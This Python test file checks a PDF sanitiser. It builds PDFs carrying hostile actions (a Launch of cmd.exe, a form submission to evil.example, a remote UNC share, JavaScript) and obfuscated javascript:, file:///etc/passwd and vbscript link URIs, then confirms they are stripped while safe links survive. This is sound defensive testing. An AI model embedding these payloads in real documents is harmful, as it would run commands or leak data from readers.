"""The sanitiser is an allow-list: a corpus of PDFs built here with PyMuPDF's low-level xref
API hides unsafe actions, links and annotations everywhere a reader would find them (inline
or indirect, in /Annots, /OpenAction, /AA, name trees, outlines, form fields, /Next chains),
and the served copy must hold none of them, while ordinary links and markup survive."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pikepdf
import pymupdf
import pytest

from documents.sanitize import sanitize_pdf
from tests.documents import corpus

ALLOWED_ACTIONS = {"/GoTo", "/URI", "/Named"}
ALLOWED_ANNOTS = {"/Text", "/Link", "/Highlight", "/Widget", "/Popup", "/FreeText", "/Ink"}
FORBIDDEN_KEYS = {"/AA", "/JS", "/EF", "/AF", "/XFA", "/RichMediaContent"}
LINK = "<</Type/Annot/Subtype/Link/Rect[10 10 60 60]/A {action}>>"


def build(tmp_path: Path, name: str, *, annots: list[str] | None = None,
          catalog: dict[str, str] | None = None, page: dict[str, str] | None = None,
          objects: dict[str, str] | None = None) -> Path:
    """A one-page PDF; ``{NAME}`` in any source becomes a reference to ``objects[NAME]``."""
    doc = pymupdf.open()
    pg = doc.new_page()
    pg.insert_text((72, 72), "Tai lieu hop")
    xrefs = {key: doc.get_new_xref() for key in objects or {}}
    refs = {key: f"{xref} 0 R" for key, xref in xrefs.items()}

    def resolve(source: str) -> str:
        return re.sub(r"\{(\w+)\}", lambda m: refs[m.group(1)], source)

    for key, source in (objects or {}).items():
        doc.update_object(xrefs[key], resolve(source))
    if annots:
        doc.xref_set_key(pg.xref, "Annots", resolve("[" + " ".join(annots) + "]"))
    for key, source in (catalog or {}).items():
        doc.xref_set_key(doc.pdf_catalog(), key, resolve(source))
    for key, source in (page or {}).items():
        doc.xref_set_key(pg.xref, key, resolve(source))
    path = tmp_path / f"{name}.pdf"
    doc.save(path)
    return path


def walk(pdf: pikepdf.Pdf) -> Iterator[tuple[Any, Any]]:
    """Every (container, dictionary) pair reachable in the file, inline ones included."""
    seen: set[tuple[int, int]] = set()
    stack: list[Any] = [pdf.trailer]
    while stack:
        node = stack.pop()
        if node.is_indirect:
            if node.objgen in seen:
                continue
            seen.add(node.objgen)
        if isinstance(node, pikepdf.Array):
            stack.extend(v for v in node if isinstance(v, pikepdf.Dictionary | pikepdf.Array
                                                       | pikepdf.Stream))
            continue
        yield node
        stack.extend(node[k] for k in node.keys()  # noqa: SIM118
                     if isinstance(node[k], pikepdf.Dictionary | pikepdf.Array | pikepdf.Stream))


def browser_scheme(raw: bytes) -> str:
    text = raw.decode("utf-16") if raw[:2] == b"\xfe\xff" else raw.decode("latin-1")
    return re.sub(r"[\x00-\x20\x7f]", "", text).partition(":")[0].lower()


def violations(path: Path) -> list[str]:
    """What a full PDF reader could be made to do by this file, found independently."""
    found = []
    with pikepdf.open(path) as pdf:
        root = pdf.Root
        for key in ("/URI", "/Collection"):
            if key in root:
                found.append(f"catalog {key}")
        if "/Names" in root:
            found += [f"name tree {k}" for k in root.Names.keys() if k != "/Dests"]  # noqa: SIM118
        if "/OpenAction" in root and isinstance(root.OpenAction, pikepdf.Dictionary) \
                and root.OpenAction.get("/S") != "/GoTo":
            found.append("open action")
        for d in walk(pdf):
            found += [f"key {k}" for k in d.keys() if k in FORBIDDEN_KEYS]  # noqa: SIM118
            kind = str(d.get("/S"))
            if kind not in ACTIONS_IN_CORPUS | ALLOWED_ACTIONS and d.get("/Type") != "/Action":
                pass  # not an action: border styles, page labels... use /S as well
            elif kind == "/URI":
                if browser_scheme(bytes(d.URI)) not in ("http", "https", "mailto"):
                    found.append(f"uri {bytes(d.URI)!r}")
            elif kind == "/Named":
                if d.N not in ("/NextPage", "/PrevPage", "/FirstPage", "/LastPage"):
                    found.append(f"named {d.N}")
            elif kind != "/GoTo":
                found.append(f"action {kind}")
            if "/Annots" in d:
                found += [f"annot {a.get('/Subtype')}" for a in d.Annots
                          if isinstance(a, pikepdf.Dictionary) and len(a.keys())
                          and a.get("/Subtype") not in ALLOWED_ANNOTS]
    return found


ACTIONS_IN_CORPUS = {
    "/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData", "/JavaScript", "/Rendition",
    "/RichMediaExecute", "/Hide", "/ResetForm", "/SetOCGState", "/Sound", "/Movie", "/Thread",
    "/Foo", "/Trans", "/GoTo3DView",
}
HOSTILE_ACTIONS = {
    "launch": "<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "gotor": "<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>",
    "gotoe": "<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>",
    "submit": "<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>",
    "import": "<</S/ImportData/F(data.fdf)>>",
    "javascript": "<</S/JavaScript/JS(app.alert\\(1\\))>>",
    "javascript_stream": "<</S/JavaScript/JS {JS}>>",
    "rendition": "<</S/Rendition/OP 0/JS(1)>>",
    "rich_media": "<</S/RichMediaExecute/TA 5 0 R/TI 5 0 R>>",
    "named_print": "<</S/Named/N/Print>>",
    "unknown_typed": "<</Type/Action/S/Foo>>",
    "hide": "<</S/Hide/T(x)>>",
    "reset": "<</S/ResetForm>>",
    "sound": "<</S/Sound/Sound 5 0 R>>",
    "chain_to_js": "<</S/GoTo/D[0/Fit]/Next<</S/JavaScript/JS(1)>>>>",
}
HOSTILE_URIS = [
    "(javascript:1)", "(JavaScript:alert\\(1\\))", "( javascript:1)", "(java\\tscript:1)",
    "(java\\nscript:1)", "<6A617661736372697074 3A31>", "(\\152avascript:1)",
    "<FEFF006A006100760061007300630072006900700074003A0031>", "(file:///etc/passwd)",
    "(data:text/html,x)", "(vbscript:msgbox)", "(relative/page.html)",
    "(\\\\\\\\host\\\\share)", "(smb://host/share)", "(ms-settings:)", "42",
]


def sanitized(src: Path) -> tuple[Path, dict[str, int]]:
    dst = src.with_name(src.stem + "-clean.pdf")
    report = sanitize_pdf(str(src), str(dst))
    assert not list(src.parent.glob("*.tmp-*"))
    return dst, report.removed


def test_the_reported_inline_javascript_link_is_removed(tmp_path: Path) -> None:
    annot = "<< /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (javascript:1) >> >>"
    src = build(tmp_path, "finding7", annots=[annot])
    assert violations(src)  # the checker sees it in the original
    dst, removed = sanitized(src)
    assert violations(dst) == [] and removed
    with pymupdf.open(dst) as doc:
        assert all("javascript" not in str(link.get("uri", "")).lower()
                   for link in doc[0].get_links())


@pytest.mark.parametrize("uri", HOSTILE_URIS)
@pytest.mark.parametrize("where", ["inline", "indirect_action", "indirect_annot"])
def test_links_to_unsafe_schemes_are_removed(uri: str, where: str, tmp_path: Path) -> None:
    action = f"<</S/URI/URI {uri}>>"
    objects: dict[str, str] = {}
    if where == "indirect_action":
        objects["ACT"], action = action, "{ACT}"
    annot = LINK.format(action=action)
    if where == "indirect_annot":
        objects["ANNOT"], annot = annot, "{ANNOT}"
    src = build(tmp_path, "uri", annots=[annot], objects=objects)
    assert violations(src)
    dst, removed = sanitized(src)
    assert violations(dst) == [] and removed


@pytest.mark.parametrize("name", list(HOSTILE_ACTIONS))
@pytest.mark.parametrize("where", ["link", "outline", "open_action", "field", "page_aa",
                                   "indirect"])
def test_actions_off_the_allow_list_are_removed(name: str, where: str, tmp_path: Path) -> None:
    action = HOSTILE_ACTIONS[name]
    objects = {"JS": "<</Length 1>>"}
    kw: dict[str, Any] = {"objects": objects}
    if where == "link":
        kw["annots"] = [LINK.format(action=action)]
    elif where == "indirect":
        objects["ACT"] = action
        kw["annots"] = [LINK.format(action="{ACT}"), LINK.format(action="{ACT}")]
    elif where == "outline":
        objects["OUT"] = "<</Type/Outlines/First {ITEM}/Last {ITEM}/Count 1>>"
        objects["ITEM"] = f"<</Title(Mục 1)/Parent {{OUT}}/A {action}>>"
        kw["catalog"] = {"Outlines": "{OUT}"}
    elif where == "open_action":
        kw["catalog"] = {"OpenAction": action}
    elif where == "field":
        objects["FIELD"] = (f"<</Type/Annot/Subtype/Widget/FT/Btn/T(ok)/Rect[0 0 20 20]/A {action}"
                            f"/AA<</D {action}/K {action}>>>>")
        kw["annots"] = ["{FIELD}"]
        kw["catalog"] = {"AcroForm": "<</Fields[{FIELD}]/XFA(<xdp/>)>>"}
    else:
        kw["page"] = {"AA": f"<</O {action}/C {action}>>"}
    src = build(tmp_path, name, **kw)
    assert violations(src)
    dst, removed = sanitized(src)
    assert violations(dst) == [] and removed
    with pymupdf.open(dst) as doc:
        assert doc.page_count == 1 and "Tai lieu hop" in doc[0].get_text()


@pytest.mark.parametrize("subtype", ["FileAttachment", "RichMedia", "Screen", "Sound", "Movie",
                                     "3D", "Foo"])
@pytest.mark.parametrize("indirect", [False, True])
def test_annotations_off_the_allow_list_are_removed(subtype: str, indirect: bool,
                                                   tmp_path: Path) -> None:
    annot = (f"<</Type/Annot/Subtype/{subtype}/Rect[0 0 30 30]"
             "/FS<</Type/Filespec/F(x.exe)/EF<</F {FILE}>>>>/RichMediaContent<<>>>>")
    objects = {"FILE": "<</Type/EmbeddedFile/Length 2>>"}
    if indirect:
        objects["ANNOT"], annot = annot, "{ANNOT}"
    src = build(tmp_path, subtype, annots=[annot, "<</Subtype/Text/Rect[0 0 9 9]>>"],
                objects=objects)
    assert violations(src)
    dst, removed = sanitized(src)
    assert violations(dst) == [] and removed
    with pymupdf.open(dst) as doc:
        assert [kind for _, kind, _ in doc[0].annot_xrefs()] == [pymupdf.PDF_ANNOT_TEXT]


def test_document_level_active_content_is_removed(tmp_path: Path) -> None:
    src = build(tmp_path, "catalog", objects={
        "JSTREE": "<</Names[(init) {JSACT}]>>", "JSACT": "<</S/JavaScript/JS(1)>>",
        "FILES": "<</Names[(x.exe) <</Type/Filespec/F(x.exe)/EF<</F {FILE}>>>>]>>",
        "FILE": "<</Type/EmbeddedFile/Length 2>>", "DESTS": "<</Names[(muc1) [0 /Fit]]>>",
    }, catalog={
        "Names": "<</JavaScript {JSTREE}/EmbeddedFiles {FILES}/Dests {DESTS}/Renditions<<>>>>",
        "AA": "<</WC<</S/JavaScript/JS(1)>>>>", "URI": "<</Base(javascript:)>>",
        "Collection": "<</View/D>>", "PageMode": "/UseAttachments",
    }, page={"AF": "[<</Type/Filespec/F(a.exe)/EF<</F {FILE}>>>>]"})
    assert violations(src)
    dst, removed = sanitized(src)
    assert violations(dst) == []
    assert removed["javascript"] >= 1 and removed["embedded_files"] >= 1
    with pikepdf.open(dst) as pdf:
        assert list(pdf.Root.Names.keys()) == ["/Dests"]
        assert pdf.Root.PageMode == "/UseNone"


def test_safe_links_destinations_and_markup_survive(tmp_path: Path) -> None:
    src = build(tmp_path, "safe", annots=[
        LINK.format(action="<</S/URI/URI(https://quangbinh.gov.vn/)>>"),
        LINK.format(action="<</S/URI/URI(mailto:vanthu@donghoi.gov.vn)>>"),
        LINK.format(action="<</S/GoTo/D[{PAGE} /Fit]/Next<</S/Named/N/NextPage>>>>"),
        "<</Type/Annot/Subtype/Text/Rect[100 100 120 120]/Contents(ghi chú)>>",
        "<</Type/Annot/Subtype/Highlight/Rect[0 0 50 10]/QuadPoints[0 10 50 10 0 0 50 0]>>",
    ], objects={"PAGE": "<</Type/Page>>", "OUT": "<</Type/Outlines/First {ITEM}/Last {ITEM}"
                "/Count 1>>", "ITEM": "<</Title(Mục 1)/Parent {OUT}/A<</S/GoTo/D[0 /Fit]>>>>"},
        catalog={"Outlines": "{OUT}", "OpenAction": "[0 /FitH 800]"})
    dst, removed = sanitized(src)
    assert removed == {}, removed
    with pymupdf.open(dst) as doc:
        links = doc[0].get_links()
        assert [link.get("uri") for link in links if link["kind"] == pymupdf.LINK_URI] == \
            ["https://quangbinh.gov.vn/", "mailto:vanthu@donghoi.gov.vn"]
        assert len(doc[0].annot_xrefs()) == 5 and len(doc.get_toc()) == 1
    with pikepdf.open(dst) as pdf:
        assert isinstance(pdf.Root.OpenAction, pikepdf.Array)


def test_the_existing_active_content_file_is_cleaned(tmp_path: Path) -> None:
    src = corpus.make_active_content_pdf(tmp_path)
    dst, removed = sanitized(src)
    assert violations(dst) == [] and removed["javascript"] >= 1
